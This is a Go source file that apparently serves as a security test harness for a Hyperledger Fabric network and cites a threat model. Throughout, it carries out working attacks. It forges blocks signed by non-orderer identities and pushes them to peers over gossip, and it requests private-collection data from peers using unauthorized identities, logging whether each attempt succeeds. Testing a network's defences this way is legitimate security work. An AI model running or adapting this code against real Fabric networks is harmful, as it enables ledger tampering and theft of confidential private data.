package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"sync"
	"time"

	cb "github.com/hyperledger/fabric-protos-go-apiv2/common"
	"github.com/hyperledger/fabric-protos-go-apiv2/gossip"
	"github.com/hyperledger/fabric-protos-go-apiv2/ledger/rwset"
	"github.com/hyperledger/fabric/protoutil"
	"google.golang.org/protobuf/proto"
)

// meeting is a gossip stream to a peer.
type meeting struct {
	gossip.Gossip_GossipStreamClient
	by *signer
	l  *link
}

// meet introduces an identity to a peer.
func (a *attacker) meet(ctx context.Context, l *link, by *signer) (*meeting, error) {
	stream, err := gossip.NewGossipClient(l).GossipStream(ctx)
	if err != nil {
		return nil, err
	}
	m := &meeting{stream, by, l}
	id := sha256.Sum256(append([]byte(by.msp), by.cert...))
	err = m.say(&gossip.GossipMessage{Tag: gossip.GossipMessage_EMPTY, Content: &gossip.GossipMessage_Conn{
		Conn: &gossip.ConnEstablish{PkiId: id[:], Identity: by.creator, TlsCertHash: l.hash},
	}})
	if err != nil {
		return nil, err
	}
	_, err = m.Recv()
	return m, err
}

func (m *meeting) say(message *gossip.GossipMessage) error {
	payload, err := proto.Marshal(message)
	if err != nil {
		return err
	}
	signature, err := m.by.Sign(payload)
	if err != nil {
		return err
	}
	return m.Send(&gossip.Envelope{Payload: payload, Signature: signature})
}

// neverOrdered is what the forged blocks hold.
const neverOrdered = "no orderer ever saw this"

// forgeBlocks gives peers blocks that no orderer made, signed by every kind of identity but an orderer's: under Raft one
// orderer's signature is enough (docs/threat-model.md).
func (a *attacker) forgeBlocks() error {
	for _, at := range a.Agencies {
		last, err := a.block(at, newest())
		if err != nil {
			return err
		}
		forgers := a.every(kindOfficial, kindGateway, kindPeer, kindAdmin, kindTLS)
		for _, by := range forgers {
			if err := a.forge(at, by, last); err != nil {
				return err
			}
		}
		// A block that was taken would be there at once; what is committed meanwhile is an orderer's.
		time.Sleep(time.Second)
		after, err := a.block(at, newest())
		if err != nil {
			return err
		}
		taken := false
		for n := last.Header.Number + 1; n <= after.Header.Number; n++ {
			b, err := a.block(at, number(n))
			if err != nil {
				return err
			}
			taken = taken || bytes.Contains(b.Data.Data[0], []byte(neverOrdered))
		}
		a.note("give the peer of "+at.Name+" a block that no orderer made",
			fmt.Sprintf("%d identities of officials, gateways, peers, administrators, and TLS certificates", len(forgers)), taken,
			fmt.Sprintf("its blocks %d to %d", last.Header.Number, after.Header.Number))
	}
	return nil
}

// transaction is a signed transaction that is none.
func (a *attacker) transaction(by *signer, junk []byte) (*cb.Envelope, error) {
	return protoutil.CreateSignedEnvelope(cb.HeaderType_ENDORSER_TRANSACTION, a.Channel, by, &cb.Metadata{Value: junk}, 0, 0)
}

// forge sends a peer a next block.
func (a *attacker) forge(at agency, by *signer, last *cb.Block) error {
	forged := protoutil.NewBlock(last.Header.Number+1, protoutil.BlockHeaderHash(last.Header))
	envelope, err := a.transaction(by, []byte(neverOrdered))
	if err != nil {
		return err
	}
	forged.Data.Data = [][]byte{protoutil.MarshalOrPanic(envelope)}
	forged.Header.DataHash = protoutil.ComputeBlockDataHash(forged.Data)
	config, err := protoutil.GetLastConfigIndexFromBlock(last)
	if err != nil {
		return err
	}
	value := protoutil.MarshalOrPanic(&cb.OrdererBlockMetadata{LastConfig: &cb.LastConfig{Index: config}})
	header := protoutil.MarshalOrPanic(protoutil.NewSignatureHeaderOrPanic(by))
	signature, err := by.Sign(bytes.Join([][]byte{value, header, protoutil.BlockHeaderBytes(forged.Header)}, nil))
	if err != nil {
		return err
	}
	protoutil.InitBlockMetadata(forged)
	forged.Metadata.Metadata[cb.BlockMetadataIndex_SIGNATURES] = protoutil.MarshalOrPanic(&cb.Metadata{
		Value: value, Signatures: []*cb.MetadataSignature{{SignatureHeader: header, Signature: signature}},
	})
	// With the identity of the signer, or, where that is none, of the gateway whose TLS certificate is used.
	introduced := by
	if by.Kind == kindTLS {
		if introduced, err = as(a.who, kindGateway, by.Agency); err != nil {
			return err
		}
	}
	l, err := a.open(at.Peer, by.Agency+"/gateway")
	if err != nil {
		return err
	}
	defer l.Close()
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	m, err := a.meet(ctx, l, introduced)
	if err != nil {
		return nil // it is not even listened to
	}
	err = m.say(&gossip.GossipMessage{
		Tag: gossip.GossipMessage_CHAN_AND_ORG, Nonce: 7, Channel: []byte(a.Channel),
		Content: &gossip.GossipMessage_DataMsg{DataMsg: &gossip.DataMessage{
			Payload: &gossip.Payload{SeqNum: forged.Header.Number, Data: protoutil.MarshalOrPanic(forged)},
		}},
	})
	if err != nil && !errors.Is(err, io.EOF) {
		return err
	}
	return m.CloseSend()
}

// pullPrivateData asks the peers that keep private data for those of a transaction.
func (a *attacker) pullPrivateData() error {
	keeper := a.Agencies[0]
	wanted, err := a.privateTransaction(keeper)
	if err != nil {
		return err
	}
	var (
		group sync.WaitGroup
		mu    sync.Mutex
	)
	pull := func(by *signer, certificate string, must bool) {
		group.Go(func() {
			bytes, answer := a.pull(keeper, by, certificate, wanted)
			note := a.note
			if must {
				note = a.must
				// The peer whose key this is speaks to the keeper, too: the keeper ends one of two streams of one identity.
				for try := 0; try < 20 && bytes == 0; try++ {
					time.Sleep(300 * time.Millisecond)
					bytes, answer = a.pull(keeper, by, certificate, wanted)
				}
			}
			mu.Lock()
			defer mu.Unlock()
			note("pull private data from the peer of "+keeper.Name, by.String(), bytes > 0, answer)
		})
	}
	for _, by := range a.every(kindOfficial, kindGateway, kindOrderer, kindAdmin) {
		pull(by, by.Agency+"/gateway", false)
	}
	for _, by := range a.every(kindPeer) {
		if by.Agency != keeper.Name {
			pull(by, by.Agency+"/peer", a.keeps(by.Agency))
		}
	}
	group.Wait()
	return nil
}

// keeps reports whether an agency's peer is a member of the collection.
func (a *attacker) keeps(agency string) bool { return agency == a.Agencies[1].Name }

// pull asks for the private data of a transaction and returns how many bytes came.
func (a *attacker) pull(at agency, by *signer, certificate string, of *gossip.PvtDataDigest) (int, string) {
	l, err := a.open(at.Peer, certificate)
	if err != nil {
		return 0, err.Error()
	}
	defer l.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	m, err := a.meet(ctx, l, by)
	if err != nil {
		return 0, err.Error()
	}
	err = m.say(&gossip.GossipMessage{
		Tag: gossip.GossipMessage_CHAN_ONLY, Nonce: 9, Channel: []byte(a.Channel),
		Content: &gossip.GossipMessage_PrivateReq{PrivateReq: &gossip.RemotePvtDataRequest{Digests: []*gossip.PvtDataDigest{of}}},
	})
	if err != nil {
		return 0, err.Error()
	}
	for {
		envelope, err := m.Recv()
		if err != nil {
			return 0, err.Error()
		}
		message := &gossip.GossipMessage{}
		if err := proto.Unmarshal(envelope.Payload, message); err != nil {
			return 0, err.Error()
		}
		if message.GetPrivateRes() == nil {
			continue
		}
		size := 0
		for _, element := range message.GetPrivateRes().Elements {
			for _, payload := range element.Payload {
				size += len(payload)
			}
		}
		return size, fmt.Sprintf("%d bytes", size)
	}
}

// privateTransaction is the newest transaction with private data.
func (a *attacker) privateTransaction(at agency) (*gossip.PvtDataDigest, error) {
	last, err := a.block(at, newest())
	if err != nil {
		return nil, err
	}
	for n := last.Header.Number; n > 0; n-- {
		b, err := a.block(at, number(n))
		if err != nil {
			return nil, err
		}
		for i, data := range b.Data.Data {
			if d := private(data); d != nil {
				d.BlockSeq, d.SeqInBlock = n, uint64(i)
				return d, nil
			}
		}
	}
	return nil, errors.New("no transaction has private data: write some first")
}

// private is the digest of a transaction's private data, nil when it has none.
func private(data []byte) *gossip.PvtDataDigest {
	envelope, err := protoutil.GetEnvelopeFromBlock(data)
	if err != nil {
		return nil
	}
	header, err := protoutil.ChannelHeader(envelope)
	if err != nil || cb.HeaderType(header.Type) != cb.HeaderType_ENDORSER_TRANSACTION {
		return nil
	}
	action, err := protoutil.GetActionFromEnvelopeMsg(envelope)
	if err != nil {
		return nil
	}
	writes := &rwset.TxReadWriteSet{}
	if err := proto.Unmarshal(action.Results, writes); err != nil {
		return nil
	}
	for _, ns := range writes.NsRwset {
		for _, c := range ns.CollectionHashedRwset {
			if len(c.PvtRwsetHash) > 0 {
				return &gossip.PvtDataDigest{TxId: header.TxId, Namespace: ns.Namespace, Collection: c.CollectionName}
			}
		}
	}
	return nil
}
